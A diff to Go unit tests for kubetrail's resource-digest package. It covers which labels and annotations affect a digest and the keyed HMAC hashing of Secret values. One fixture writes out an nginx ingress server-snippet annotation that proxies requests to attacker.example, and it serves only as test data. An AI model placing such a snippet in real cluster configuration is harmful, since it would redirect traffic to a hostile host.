@@ -2,7 +2,10 @@ package digest
 
 import (
 	"bytes"
+	"crypto/hmac"
+	"crypto/sha256"
 	"encoding/base64"
+	"encoding/hex"
 	"encoding/json"
 	"math"
 	"os"
@@ -10,6 +13,8 @@ import (
 	"regexp"
 	"strings"
 	"testing"
+
+	"github.com/kubetrail/kubetrail/internal/provenance"
 )
 
 // deployment returns the fixture as encoding/json decodes it (every number a
@@ -106,14 +111,36 @@ func TestOfIgnoresWhatADeployDoesNotChange(t *testing.T) {
 			delete(obj, "status")
 			return obj
 		},
-		"label added": func(t *testing.T, obj map[string]interface{}) map[string]interface{} {
-			at(obj, "metadata", "labels").(map[string]interface{})["team"] = "payments"
+		"kubetrail's admission facts and provenance stamped": func(t *testing.T, obj map[string]interface{}) map[string]interface{} {
+			ann := map[string]interface{}{}
+			for _, k := range append(append([]string(nil), provenance.AdmissionKeys...), provenance.ProvenanceKeys...) {
+				ann[k] = "stamped"
+			}
+			at(obj, "metadata").(map[string]interface{})["annotations"] = ann
 			return obj
 		},
-		"annotations replaced, kubetrail's own included": func(t *testing.T, obj map[string]interface{}) map[string]interface{} {
-			at(obj, "metadata").(map[string]interface{})["annotations"] = map[string]interface{}{
-				"kubetrail.io/digest": "sha256:1111", "kubectl.kubernetes.io/restartedAt": "now",
+		"controller-owned annotations and labels": func(t *testing.T, obj map[string]interface{}) map[string]interface{} {
+			md := at(obj, "metadata").(map[string]interface{})
+			ann := map[string]interface{}{}
+			for _, k := range ControllerOwnedAnnotations() {
+				ann[k] = "7"
 			}
+			md["annotations"] = ann
+			labels := md["labels"].(map[string]interface{})
+			for _, k := range ControllerOwnedLabels() {
+				labels[k] = "abc"
+			}
+			return obj
+		},
+		"empty and null labels and annotations": func(t *testing.T, obj map[string]interface{}) map[string]interface{} {
+			md := at(obj, "metadata").(map[string]interface{})
+			md["annotations"] = map[string]interface{}{}
+			return obj
+		},
+		"labels as map[string]string": func(t *testing.T, obj map[string]interface{}) map[string]interface{} {
+			md := at(obj, "metadata").(map[string]interface{})
+			md["labels"] = map[string]string{"app.kubernetes.io/name": "checkout", "app.kubernetes.io/part-of": "shop", "pod-template-hash": "x"}
+			md["annotations"] = nil
 			return obj
 		},
 		"managedFields, resourceVersion, generation, uid change": func(t *testing.T, obj map[string]interface{}) map[string]interface{} {
@@ -178,7 +205,23 @@ func TestOfSeesWhatADeployChanges(t *testing.T) {
 		"pod template label added": func(obj map[string]interface{}) {
 			at(obj, "spec", "template", "metadata", "labels").(map[string]interface{})["v"] = "2"
 		},
-		"renamed": func(obj map[string]interface{}) { at(obj, "metadata").(map[string]interface{})["name"] = "checkout-v2" },
+		"label added": func(obj map[string]interface{}) {
+			at(obj, "metadata", "labels").(map[string]interface{})["team"] = "payments"
+		},
+		"label changed": func(obj map[string]interface{}) {
+			at(obj, "metadata", "labels").(map[string]interface{})["app.kubernetes.io/part-of"] = "other"
+		},
+		"labels removed": func(obj map[string]interface{}) { delete(at(obj, "metadata").(map[string]interface{}), "labels") },
+		"annotation added": func(obj map[string]interface{}) {
+			at(obj, "metadata").(map[string]interface{})["annotations"] = map[string]interface{}{
+				"nginx.ingress.kubernetes.io/server-snippet": "location /x { proxy_pass http://attacker.example; }",
+			}
+		},
+		"kubetrail.io annotation that is no provenance": func(obj map[string]interface{}) {
+			at(obj, "metadata").(map[string]interface{})["annotations"] = map[string]interface{}{"kubetrail.io/other": "x"}
+		},
+		"malformed labels": func(obj map[string]interface{}) { at(obj, "metadata").(map[string]interface{})["labels"] = "oops" },
+		"renamed":          func(obj map[string]interface{}) { at(obj, "metadata").(map[string]interface{})["name"] = "checkout-v2" },
 		"other namespace": func(obj map[string]interface{}) {
 			at(obj, "metadata").(map[string]interface{})["namespace"] = "shop-staging"
 		},
@@ -318,12 +361,14 @@ func TestCanonicalGolden(t *testing.T) {
 		"apiVersion": "v1",
 		"kind":       "ConfigMap",
 		"metadata": map[string]interface{}{
-			"name": "web", "namespace": "shop", "labels": map[string]interface{}{"a": "b"}, "resourceVersion": "7",
+			"name": "web", "namespace": "shop", "labels": map[string]interface{}{"a": "b", "pod-template-hash": "5d8f"}, "resourceVersion": "7",
+			"annotations": map[string]interface{}{"team": "shop", "kubetrail.io/digest": "sha256:00", "kubetrail.io/commit": "abc",
+				"kubectl.kubernetes.io/last-applied-configuration": "{}"},
 		},
 		"data":   map[string]interface{}{"z": "<last>", "a/b": "x\ny", "n": "3"},
 		"status": map[string]interface{}{"x": 1},
 	}
-	const want = `{"apiVersion":"","data":{"a/b":"x\ny","n":"3","z":"<last>"},"kind":"ConfigMap","metadata":{"name":"web","namespace":"shop"}}`
+	const want = `{"apiVersion":"","data":{"a/b":"x\ny","n":"3","z":"<last>"},"kind":"ConfigMap","metadata":{"annotations":{"team":"shop"},"labels":{"a":"b"},"name":"web","namespace":"shop"}}`
 	b, err := Canonical(obj, nil)
 	if err != nil {
 		t.Fatal(err)
@@ -332,7 +377,7 @@ func TestCanonicalGolden(t *testing.T) {
 		t.Errorf("Canonical:\n got %s\nwant %s", b, want)
 	}
 	// sha256 of want, computed outside Go (printf '%s' "$want" | sha256sum).
-	const wantDigest = "sha256:1446b9e79f13cdbcb6632c25cd0d52912786e35057bec5c80375e62f3eebcfbe"
+	const wantDigest = "sha256:0569e8d9b3ce7b2a223d670ead0eb3755dc771d0febe79134ffe6b54f7b82ffb"
 	if got := mustOf(t, obj, nil); got != wantDigest {
 		t.Errorf("Of = %s, want %s", got, wantDigest)
 	}
@@ -386,20 +431,27 @@ func TestDeterministic(t *testing.T) {
 	}
 }
 
-func TestSecretValuesAreNeverDigested(t *testing.T) {
-	secret := func() map[string]interface{} {
-		return map[string]interface{}{
-			"apiVersion": "v1",
-			"kind":       "Secret",
-			"metadata":   map[string]interface{}{"name": "db", "namespace": "shop"},
-			"type":       "Opaque",
-			"data": map[string]interface{}{
-				"password": base64.StdEncoding.EncodeToString([]byte("hunter2")),
-				"user":     base64.StdEncoding.EncodeToString([]byte("admin")),
-			},
-			"stringData": map[string]interface{}{"token": "s3cr3t-t0ken"},
-		}
+func secretFixture() map[string]interface{} {
+	return map[string]interface{}{
+		"apiVersion": "v1",
+		"kind":       "Secret",
+		"metadata":   map[string]interface{}{"name": "db", "namespace": "shop"},
+		"type":       "Opaque",
+		"data": map[string]interface{}{
+			"password": base64.StdEncoding.EncodeToString([]byte("hunter2")),
+			"user":     base64.StdEncoding.EncodeToString([]byte("admin")),
+		},
+		"stringData": map[string]interface{}{"token": "s3cr3t-t0ken"},
 	}
+}
+
+// TestSecretValuesAreNeverDigested: without a secret key (the CLI), a Secret's
+// values are not hashed at all, only its key names.
+func TestSecretValuesAreNeverDigested(t *testing.T) {
+	if HasSecretKey() {
+		t.Fatal("a secret key is set")
+	}
+	secret := secretFixture
 	values := []string{"hunter2", "aHVudGVyMg==", "admin", "YWRtaW4=", "s3cr3t-t0ken"}
 
 	for _, ignore := range [][]string{nil, {"/kind"}, {"/type"}} {
@@ -462,7 +514,8 @@ func TestTrackedContent(t *testing.T) {
 	for k := range got {
 		keys = append(keys, k)
 	}
-	if want := map[string]interface{}{"name": "checkout", "namespace": "shop"}; !reflect.DeepEqual(got["metadata"], want) {
+	if want := map[string]interface{}{"name": "checkout", "namespace": "shop", "labels": map[string]interface{}{
+		"app.kubernetes.io/name": "checkout", "app.kubernetes.io/part-of": "shop"}}; !reflect.DeepEqual(got["metadata"], want) {
 		t.Errorf("metadata = %v, want %v", got["metadata"], want)
 	}
 	if got["apiVersion"] != "apps" || got["kind"] != "Deployment" || got["status"] != nil || len(got) != 4 {
@@ -644,5 +697,121 @@ func TestServiceNodePortsAreServerAllocated(t *testing.T) {
 	other["spec"].(map[string]interface{})["ports"].([]interface{})[0].(map[string]interface{})["port"] = int64(8080)
 	if b, _ := Of(other, nil); a == b {
 		t.Error("a changed service port did not change the digest")
+	}
+}
+
+// withSecretKey sets a secret key for the test.
+func withSecretKey(t *testing.T, key string) {
+	t.Helper()
+	if err := SetSecretKey([]byte(key)); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = SetSecretKey(nil) })
+}
+
+// TestSecretValuesKeyed: with the manager's secret key, a value change is a content
+// change, yet no value (nor an unkeyed hash of one) is in the hashed bytes, and the
+// same Secret digests differently under another key, so a guess cannot be tested
+// against a digest without the key.
+func TestSecretValuesKeyed(t *testing.T) {
+	const key = "0123456789abcdef0123456789abcdef"
+	withSecretKey(t, key)
+	values := []string{"hunter2", "aHVudGVyMg==", "admin", "YWRtaW4=", "s3cr3t-t0ken"}
+	b, err := Canonical(secretFixture(), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, v := range values {
+		sum := sha256.Sum256([]byte(v))
+		if bytes.Contains(b, []byte(v)) || bytes.Contains(b, []byte(hex.EncodeToString(sum[:]))) {
+			t.Errorf("canonical form %s contains secret value %q or its plain hash", b, v)
+		}
+	}
+	if !regexp.MustCompile(`"data":\{"password":"hmac-sha256:[0-9a-f]{64}","token":"hmac-sha256:[0-9a-f]{64}","user":"hmac-sha256:[0-9a-f]{64}"\}`).Match(b) {
+		t.Errorf("canonical form %s does not map each key name to a keyed hash", b)
+	}
+	cases := map[string]struct {
+		mutate func(s map[string]interface{})
+		same   bool
+	}{
+		"value changed": {mutate: func(s map[string]interface{}) {
+			s["data"].(map[string]interface{})["password"] = base64.StdEncoding.EncodeToString([]byte("correct horse"))
+		}},
+		"stringData value changed": {mutate: func(s map[string]interface{}) {
+			s["stringData"].(map[string]interface{})["token"] = "attacker-chosen"
+		}},
+		"values swapped between keys": {mutate: func(s map[string]interface{}) {
+			d := s["data"].(map[string]interface{})
+			d["password"], d["user"] = d["user"], d["password"]
+		}},
+		"stringData moved into data by the apiserver": {mutate: func(s map[string]interface{}) {
+			delete(s, "stringData")
+			s["data"].(map[string]interface{})["token"] = base64.StdEncoding.EncodeToString([]byte("s3cr3t-t0ken"))
+		}, same: true},
+		"stringData overrides data of the same name": {mutate: func(s map[string]interface{}) {
+			s["data"].(map[string]interface{})["token"] = base64.StdEncoding.EncodeToString([]byte("old"))
+		}, same: true},
+		"key added":   {mutate: func(s map[string]interface{}) { s["data"].(map[string]interface{})["host"] = "aG9zdA==" }},
+		"key removed": {mutate: func(s map[string]interface{}) { delete(s["data"].(map[string]interface{}), "user") }},
+		"label added": {mutate: func(s map[string]interface{}) {
+			s["metadata"].(map[string]interface{})["labels"] = map[string]interface{}{"a": "b"}
+		}},
+		"malformed value": {mutate: func(s map[string]interface{}) { s["data"].(map[string]interface{})["user"] = "not base64!" }},
+	}
+	base := mustOf(t, secretFixture(), nil)
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			s := secretFixture()
+			tc.mutate(s)
+			if got := mustOf(t, s, nil); (got == base) != tc.same {
+				b, _ := Canonical(s, nil)
+				t.Errorf("same digest = %v, want %v (%s)", got == base, tc.same, b)
+			}
+		})
+	}
+	if !Recomputable(secretFixture()) {
+		t.Error("with the key set, a Secret's digest is recomputable")
+	}
+
+	withSecretKey(t, "another key, another 32 bytes ...")
+	if mustOf(t, secretFixture(), nil) == base {
+		t.Error("the digest does not depend on the secret key")
+	}
+	// Pinned: the HMAC input of a value is its name, 0x00, "b" and its bytes.
+	mac := hmac.New(sha256.New, []byte("another key, another 32 bytes ..."))
+	mac.Write([]byte("password\x00bhunter2"))
+	if want := "hmac-sha256:" + hex.EncodeToString(mac.Sum(nil)); !bytes.Contains(mustCanonical(t, secretFixture()), []byte(want)) {
+		t.Errorf("password's keyed hash %s not in %s", want, mustCanonical(t, secretFixture()))
+	}
+
+	if err := SetSecretKey([]byte("short")); err == nil {
+		t.Error("a 5-byte key was accepted")
+	}
+}
+
+func mustCanonical(t *testing.T, obj map[string]interface{}) []byte {
+	t.Helper()
+	b, err := Canonical(obj, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return b
+}
+
+func TestRecomputable(t *testing.T) {
+	if HasSecretKey() {
+		t.Fatal("a secret key is set")
+	}
+	for _, tc := range []struct {
+		obj  map[string]interface{}
+		want bool
+	}{
+		{secretFixture(), false},
+		{map[string]interface{}{"kind": "Secret", "metadata": map[string]interface{}{"name": "x"}}, true},
+		{map[string]interface{}{"kind": "ConfigMap", "data": map[string]interface{}{"a": "b"}}, true},
+	} {
+		if got := Recomputable(tc.obj); got != tc.want {
+			t.Errorf("Recomputable(%v) = %v, want %v", tc.obj, got, tc.want)
+		}
 	}
 }
